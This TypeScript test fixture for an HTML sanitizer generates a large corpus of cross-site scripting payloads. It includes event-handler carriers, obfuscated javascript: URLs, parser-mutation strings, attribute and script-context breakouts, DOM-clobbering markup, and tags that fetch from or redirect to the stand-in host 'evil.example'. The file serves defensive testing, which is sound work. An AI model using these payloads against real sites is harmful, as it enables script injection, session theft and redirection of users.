// For tests: HTML that attacks the page it is put into. What it runs, if it is let, is `pwned()`; what it asks for from
// elsewhere is at this host.
export const hostileHost = "evil.example";

const run = "pwned()";
const evil = `https://${hostileHost}`;

/** Elements that take a handler, and the rest of what makes it fire by itself or at a touch. */
const carriers = [
  ["img src=x", "onerror"],
  ["img src=/no.png", "onload"],
  ["body", "onload"],
  ["svg", "onload"],
  ["svg", "onbegin"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a tabindex=1 autofocus href=/x", "onfocus"],
  ["p contenteditable autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video><source", "onerror"],
  ["object data=x", "onerror"],
  ["embed src=x", "onload"],
  ["iframe src=/about", "onload"],
  ["marquee", "onstart"],
  ["link rel=stylesheet href=/no.css", "onerror"],
  ["style", "onload"],
  ["script src=/no.js", "onerror"],
  ["form", "onsubmit"],
  ["p", "onmouseover"],
  ["p", "onclick"],
  ["b", "onpointerenter"],
  ["table", "onmouseenter"],
  ["td", "onwheel"],
  ["li", "onanimationstart"],
  ["h2", "ontransitionend"],
  ["blockquote", "oncopy"],
  ["pre", "onauxclick"],
  ["code", "oncontextmenu"],
  ["math", "onclick"],
  ["x-y", "onclick"],
  ["div popover id=p", "onbeforetoggle"],
] as const;

const handlers = carriers.flatMap(([tag, event]) => [
  `<${tag} ${event}="${run}">text</${tag.split(/[ >]/)[0]}>`,
  `<${tag}/${event.toUpperCase()}=${run}>`,
]);

/** Ways to write an address that runs, past who looks for its beginning. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java&#x0A;script:${run}`,
  `java&Tab;script:${run}`,
  `&#106;&#97;vascript:${run}`,
  `&#x6A;avascript&colon;${run}`,
  `&#0000106avascript:${run}`,
  `javascript&#58;${run}`,
  `javascript://%0a${run}`,
  `javascript:/*--></title></style></textarea></script>*/${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `blob:${evil}/x`,
  `//${hostileHost}/x`,
  `/\\${hostileHost}/x`,
  `\\\\${hostileHost}\\x`,
  `ｊavascript:${run}`,
  `javascript\u00ad:${run}`,
  `feed:javascript:${run}`,
] as const;

const contexts: ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `<img src="${address}" alt="">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) =>
    `<form action="${address}"><input type=image src="${address}"><button formaction="${address}">b</button>`,
  (address) => `<svg><a xlink:href="${address}"><text>a</text></a><use href="${address}"/></svg>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
];
const links = addresses.flatMap((address) => contexts.map((context) => context(address)));

const img = `<img src=x onerror=${run}>`;
const rawText = [
  "title",
  "style",
  "textarea",
  "noscript",
  "xmp",
  "iframe",
  "noembed",
  "noframes",
  "script",
  "template",
];
/** What one parser takes for text and another one for markup. */
const mutations = [
  ...rawText.map((tag) => `<${tag}>${img}</${tag}>`),
  ...rawText.map((tag) => `<svg><${tag}>${img}</${tag}></svg>`),
  ...rawText.map((tag) => `<${tag}><p title="</${tag}>${img}"></${tag}>`),
  ...rawText.map((tag) => `</${tag}>${img}`),
];
const openMutations = [
  ...rawText.map((tag) => `<math><mtext><table><mglyph><${tag}><!--</${tag}>${img}-->`),
  ...rawText.map((tag) => `<p id="</${tag}>${img}">`),
];

/** Each closed, or harmless to what follows it. */
const closed = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src=${evil}/x.js></script>`,
  `<script type=module>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>${run}</script >`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><animate attributeName=href values=javascript:${run} /></svg>`,
  `<svg><set attributeName=onmouseover to=${run}></svg>`,
  `<svg><foreignObject>${img}</foreignObject></svg>`,
  `<math href="javascript:${run}"><mi>a</mi></math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${run}">a</maction></math>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc='&lt;img src=x onerror=parent.${run}&gt;'></iframe>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${evil}/">`,
  `<base target=_blank>`,
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<link rel=preload as=script href=${evil}/x.js>`,
  `<link rel=import href=${evil}/x.html>`,
  `<style>@import "${evil}/x.css"; body { display: none }</style>`,
  `<style>body { background: url(${evil}/x.png) }</style>`,
  `<p style="background:url(${evil}/x.png)">a</p>`,
  `<p style="width:expression(${run})">a</p>`,
  `<p style="position:fixed;inset:0;z-index:99">a</p>`,
  `<p style="behavior:url(${evil}/x.htc);-moz-binding:url(${evil}/x.xml#x)">a</p>`,
  `<table background="${evil}/x.png"><tr><td background="${evil}/y.png">a</td></tr></table>`,
  `<img srcset="${evil}/x.png 1x" src="data:,">`,
  `<picture><source srcset="${evil}/x.png"><img></picture>`,
  `<video poster=${evil}/x.png></video>`,
  `<audio src=${evil}/x.mp3 autoplay></audio>`,
  `<object data=${evil}/x.swf></object>`,
  `<embed src=${evil}/x.swf>`,
  `<applet code=${evil}/x.class></applet>`,
  `<form id=main name=main action=${evil}><input name=submit><input name=attributes></form>`,
  `<form><button formaction=${evil}>a</button></form>`,
  `<isindex action=${evil} type=submit>`,
  `<a id=location name=location href=/x>a</a>`,
  `<img name=getElementById src=/icons/icon-192.png>`,
  `<a id=document><a id=document name=cookie href=/x>`,
  `<p id=main class="skip post-progress" data-save-post="{}" data-share-post="x">a</p>`,
  `<button data-go-back data-remove-post=x popovertarget=site-menu>a</button>`,
  `<a href=/x ping=${evil}>a</a>`,
  `<a href="${evil}" target=_blank rel=opener>a</a>`,
  `<a href="/x" onclick=${run} style="display:block">a</a>`,
  `<frameset onload=${run}><frame src=${evil}></frameset>`,
  `<body background=${evil}/x.png onload=${run}>`,
  `<html onclick=${run} manifest=${evil}>`,
  `<portal src=${evil}></portal>`,
  `<dialog open onclose=${run}>a</dialog>`,
  `<keygen autofocus onfocus=${run}>`,
  `<bgsound src=${evil}/x.mp3>`,
  `<layer src=${evil}></layer>`,
  `<xml src=${evil} id=x></xml>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<?php echo "${img}" ?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "${evil}">]>&y;`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `\u003cscript\u003e${run}\u003c/script\u003e`,
  `<\u0000script>${run}</\u0000script>`,
  `<script\u0000>${run}</script>`,
  `<img\u000bsrc=x\u000bonerror=${run}>`,
  `<img\u00a0src=x\u00a0onerror=${run}>`,
  `<img src="x"onerror="${run}">`,
  `<img src=x:x onerror\n=\n${run}>`,
  `<img """>${img}">`,
  `<img src=\`x\` onerror=\`${run}\`>`,
  `<<img src=x onerror=${run}//<`,
  `<img/src/onerror=${run}>`,
  `<ſcript>${run}</ſcript>`,
  `＜script＞${run}＜/script＞`,
  `\u202e<script>${run}</script>\u202c`,
  `\ufeff<script>${run}</script>`,
  `<a href="#" title='"><img src=x onerror=${run}>'>a</a>`,
  `<abbr title="&quot;&gt;&lt;img src=x onerror=${run}&gt;">a</abbr>`,
  `<img alt="&quot; onerror=&quot;${run}" src="/icons/icon-192.png">`,
  `<ol start="1&quot; onclick=&quot;${run}"><li>a</li></ol>`,
  `<td colspan="2 onclick=${run}">a</td>`,
  `<h2><script>${run}</script>a</h2>`,
  `<h2 id="x" onclick="${run}"><a href="javascript:${run}">a</a></h2>`,
  `<ul><li onclick=${run}>a<script>${run}</script></li></ul>`,
  `</div></article></main><script>${run}</script>`,
  `</li></ul></p>${img}`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}' x='`,
  `" style="animation-name:x" onanimationstart="${run}`,
  `</script><script>${run}</script>`,
  `</SCRIPT ><img src=x onerror=${run}>`,
  `{"@type":"x"}</script>${img}`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${run}`,
  `\u2028${run}\u2029`,
  `]]></title></channel></rss><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `</title>${img}`,
  `</textarea></noscript></style></template></select></option>${img}`,
  `\${${run}}`,
  `{{constructor.constructor("${run}")()}}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
];

/** Each may swallow what follows it. */
const open = [
  `<!-- ${img}`,
  `<!--><script>${run}</script>`,
  `<!--!> ${img} -->`,
  `<!-- --!>${img}`,
  `<![endif]-->${img}`,
  `<plaintext>${img}`,
  `<xmp>${img}`,
  `<textarea>${img}`,
  `<style>${img}`,
  `<script>${run}`,
  `<script><!--<script>${run}</script>`,
  `<noscript>${img}`,
  `<template>${img}`,
  `<select><option>${img}`,
  `<svg>${img}`,
  `<math>${img}`,
  `<math><mi></p><style><!--</style>${img}-->`,
  `<svg></p><style><a id="</style>${img}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${img}`,
  `<a href="${"x".repeat(40)}`,
  `<img src="`,
  `<img src=x onerror="${run}`,
  `<p title='${img}`,
  `<iframe srcdoc="${img}`,
  `<a href='javascript:${run}`,
  `<table><a href=javascript:${run}>`,
  `${"<b>".repeat(600)}${img}`,
  `<svg><desc><![CDATA[</desc>${img}]]>`,
  `<title><a title="</title>${img}`,
  `<object><param name=src value=javascript:${run}>`,
];

export interface HostileMarkup {
  html: string;
  /** It may swallow what follows it, and so has a body to itself. */
  isOpen: boolean;
}

export const hostileMarkup: readonly HostileMarkup[] = [
  ...[...new Set([...closed, ...mutations, ...handlers, ...links])].map((html) => ({ html, isOpen: false })),
  ...[...new Set([...openMutations, ...open])].map((html) => ({ html, isOpen: true })),
];

/** Bodies that show all of them: what may swallow others by itself, the rest by the dozen. */
export function listHostileBodies(): string[] {
  const together = hostileMarkup.filter(({ isOpen }) => !isOpen).map(({ html }) => html);
  const dozens = Array.from({ length: Math.ceil(together.length / 12) }, (_, at) =>
    together.slice(at * 12, at * 12 + 12).join("\n<p>next</p>\n"),
  );
  return [...hostileMarkup.filter(({ isOpen }) => isOpen).map(({ html }) => html), ...dozens];
}

const attribute =
  / (?:href="(?:https?:|mailto:|tel:|\/(?![/\\])|#)[^"<>]*"|src="(?:https:|\/(?![/\\]))[^"<>]*"|rel="noopener noreferrer nofollow"|loading="lazy"|(?:alt|title|datetime)="[^"<>]*"|(?:width|height|start|colspan|rowspan)="\d+"|scope="(?:col|row)")/
    .source;
const toTag = (names: string) => new RegExp(`<(?:/(?:${names})|(?:${names})(?:${attribute})*(?: /)?)>`, "g");

const inlineTag = toTag("a|b|br|code|em|i|mark|s|strong|sub|sup|u");
const contentTag = toTag(
  "a|abbr|b|blockquote|br|caption|cite|code|dd|del|dfn|div|dl|dt|em|figcaption|figure|h[2-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|samp|small|strong|sub|sup|table|tbody|td|tfoot|th|thead|time|tr|u|ul|var",
);

/** Sanitized HTML without its allowed tags: text, in which no '<' or '>' may be left. */
export const withoutAllowedTags = (html: string, kind: "inline" | "content" = "content"): string =>
  html.replace(kind === "inline" ? inlineTag : contentTag, "");
